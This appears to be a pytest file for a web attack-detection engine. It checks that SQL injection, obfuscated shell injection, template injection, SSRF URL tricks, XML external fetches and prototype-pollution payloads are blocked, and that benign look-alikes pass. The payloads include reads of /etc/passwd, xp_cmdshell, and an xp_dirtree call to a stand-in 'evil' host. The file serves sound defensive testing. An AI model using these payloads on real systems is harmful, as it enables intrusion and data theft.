"""Shapes an attacker's sweep found judged clean (2026-12-07: 650 payloads from current cheat
sheets in a query, a JSON body and a header, and 70 placements and codings of seven payloads),
each beside the look-alikes that must still pass: SQL grammar (DISTINCTROW, error-based calls,
MSSQL's `master..xp_`), shell spellings (`${PATH:0:1}`, `wh``oami`, `"l"s`, `$0 -c`), Razor
and JSP EL, URLs that two parsers read with two hosts, XML that fetches (a schemaLocation not in
pairs, a stylesheet from inside), and prototype pollution."""

from __future__ import annotations

import json

import pytest

from wallarm_wire.protocol import RequestMessage
from node.detect import trivial
from node.detect.engine import Engine
from tests.support.grammar import placed

HOST = [(b"Host", b"app.example")]
JSON = [(b"Content-Type", b"application/json")]
FORM = [(b"Content-Type", b"application/x-www-form-urlencoded")]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


def blocked(engine: Engine, msg: RequestMessage) -> bool:
    det = engine.analyze_request(msg)
    return det.is_attack or bool(det.partial)


def placements(value: str) -> list[RequestMessage]:
    """The value in a query parameter, a JSON body's string and a header."""
    return [placed(value, where) for where in ("query", "json", "header")]


EVERYWHERE = [
    # SQL
    "1' UNION DISTINCTROW SELECT 1,2--",
    "1 UNION DISTINCTROW SELECT username,password FROM users",
    "1' AND JSON_EXTRACT('{\"a\":1}','$.a')=1--",  # a call compared, the rest commented out
    "1 AND GTID_SUBSET(@@version,0)",  # a system variable as an argument
    "1' AND ST_LatFromGeoHash(version())--",
    "1'; exec master..xp_dirtree '\\\\x.evil\\a'--",
    # shell
    "; ${PATH:0:1}bin${PATH:0:1}id",
    "; cat ${HOME:0:1}etc${HOME:0:1}passwd",
    "; ${PATH: -1:1}x${HOME: -2:1}",
    "127.0.0.1;wh``oami",
    "127.0.0.1;wh$()oami",
    "|ca$()t /etc/passwd",
    ';"l"s -la',
    ";$0 -c id",
    # templates
    '@(System.Diagnostics.Process.Start("cmd.exe"))',
    '@( System.IO.File.ReadAllText("C:\\\\Windows\\\\win.ini") )',
    "${applicationScope}",
    "${class.getClassLoader()}",
    # URLs whose host depends on the parser
    "http://127.0.0.1#@evil.example/",
    "http://evil.example#@127.0.0.1/",
    "http://evil.example?@169.254.169.254/",
    "http://evil.example\\@127.0.0.1/",
    # XML: a schemaLocation that is not pairs, a stylesheet fetched from inside
    '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://evil.example/x.xsd"/>',
    '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:8080/x.xsl"?><x/>',
    '<?xml-stylesheet href="file:///etc/passwd"?><x/>',
    # prototype pollution as JSON text inside a value
    json.dumps({"__proto__": {"isAdmin": True}}),
]

ONLY_AS_PARAMETERS = [
    "exec master..xp_dirtree '//x.burp/a'",  # in a document a statement written out is text
    "1;exec master..xp_cmdshell 'dir'",
]


@pytest.mark.parametrize("value", EVERYWHERE)
def test_blocked_in_every_placement(engine: Engine, value: str) -> None:
    for msg in placements(value):
        assert blocked(engine, msg), (value, msg.target, msg.headers[-1], msg.body)


@pytest.mark.parametrize("value", ONLY_AS_PARAMETERS)
def test_blocked_as_a_parameter(engine: Engine, value: str) -> None:
    assert blocked(engine, placements(value)[0])


LOOK_ALIKES = [
    # docker-compose defaults are not substrings (${PORT:-8080}), and JS templates have no offset
    "services:\n  web:\n    ports: [\"${PORT:-8080}:80\"]\n    environment:\n      - A=${A:-1}\n      - B=${B:-2}\n",
    "Hello ${user.name}, your total is ${total}",
    "The ``code`` span and $() in a sentence",
    "See https://example.com/#@user and https://mail.example.com/?to=a@b.com",
    "https://github.com/x?a=@b",
    "Never merge user input: obj.__proto__ and Object.prototype can be polluted.",
    "prototype constructor",
    "Select distinctrow rows in the report",
    "System.Diagnostics.Process is the .NET class for processes",
    '<?xml-stylesheet type="text/xsl" href="https://feeds.example.com/rss.xsl"?><rss version="2.0"/>',
]


@pytest.mark.parametrize("value", LOOK_ALIKES)
def test_look_alikes_pass(engine: Engine, value: str) -> None:
    for msg in placements(value):
        assert not blocked(engine, msg), (value, msg.target)


# ---------------------------------------------------------------------------- prototype pollution


POLLUTING = [
    RequestMessage("GET", "/f?__proto__[isAdmin]=true", HOST),
    RequestMessage("GET", "/f?__proto__.isAdmin=true", HOST),
    RequestMessage("GET", "/f?a[__proto__][isAdmin]=true", HOST),
    RequestMessage("GET", "/f?constructor[prototype][isAdmin]=true", HOST),
    RequestMessage("GET", "/f?constructor.prototype.isAdmin=true", HOST),
    RequestMessage("GET", "/f?%5F%5Fproto%5F%5F%5BisAdmin%5D=true", HOST),
    RequestMessage("POST", "/f", HOST + FORM, b"__proto__[isAdmin]=true"),
    RequestMessage("POST", "/f", HOST + JSON, b'{"__proto__":{"isAdmin":true}}'),
    RequestMessage("POST", "/f", HOST + JSON, b'{"user":{"__proto__":{"isAdmin":true}}}'),
    RequestMessage("POST", "/f", HOST + JSON, b'{"constructor":{"prototype":{"isAdmin":true}}}'),
    RequestMessage("POST", "/f", HOST + JSON, b'{"\\u005f_proto__":{"isAdmin":true}}'),
]


@pytest.mark.parametrize("msg", POLLUTING, ids=lambda m: (m.target + m.body.decode())[:60])
def test_prototype_pollution_blocked(engine: Engine, msg: RequestMessage) -> None:
    det = engine.analyze_request(msg)
    assert det.is_attack and {a.type for a in det.attacks} >= {"proto_pollution"}


def test_prototype_keys_among_many_trivial_ones_are_judged(engine: Engine) -> None:
    """The bulk passes that dismiss [\\w.-] keys and pairs unjudged (node/detect/trivial.py)
    must not dismiss a prototype path: a 200-key object, a 4 KB query string."""
    assert trivial.TOKEN_RE.fullmatch("__proto__.isadmin") is None
    assert trivial.TOKEN_RE.fullmatch("constructor.prototype.x") is None
    assert not trivial.trivial_pair("__proto__.isadmin=true")
    doc = {f"key{i}": f"value{i}" for i in range(200)}
    doc["__proto__"] = {"isadmin": True}
    assert blocked(engine, RequestMessage("POST", "/f", HOST + JSON, json.dumps(doc).encode()))
    query = "&".join(f"param{i}=value{i}" for i in range(300)) + "&__proto__.isadmin=true"
    assert len(query) > trivial.MIN_STRIPPED_TEXT
    assert blocked(engine, RequestMessage("GET", "/f?" + query, HOST))


@pytest.mark.parametrize("body", [b'{"prototype":{"name":"v2"},"constructor":"Acme"}',
                                  b'{"constructor":{"name":"Acme"},"prototype":true}',
                                  b'{"proto":"tcp","protocol":"https"}'])
def test_prototype_words_as_ordinary_keys_pass(engine: Engine, body: bytes) -> None:
    assert not blocked(engine, RequestMessage("POST", "/f", HOST + JSON, body))
